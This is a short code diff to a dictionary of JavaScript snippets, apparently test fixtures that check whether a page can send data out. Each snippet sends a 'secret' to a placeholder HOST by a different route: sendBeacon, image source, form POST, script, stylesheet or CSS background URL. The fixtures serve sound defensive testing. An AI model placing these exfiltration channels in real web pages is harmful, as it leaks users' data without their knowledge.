@@ -22,9 +22,8 @@ FROM_A_PAGE = {
     "sendBeacon": "navigator.sendBeacon('http://HOST/', 'secret')",
     "image": "new Image().src = 'http://HOST/secret'",
     "form": """
-        const form = Object.assign(document.createElement('form'),
-          {action: 'http://HOST/secret', method: 'post', target: 'elsewhere'});
-        document.body.append(form); form.submit(); form.remove()""",
+        const form = append('form', {action: 'http://HOST/secret', method: 'post'});
+        form.submit()""",
     "script": "append('script', {src: 'http://HOST/secret.js'})",
     "style": "append('link', {rel: 'stylesheet', href: 'http://HOST/secret.css'})",
     "inline style": "append('div', {}).style.background = 'url(http://HOST/secret)'",
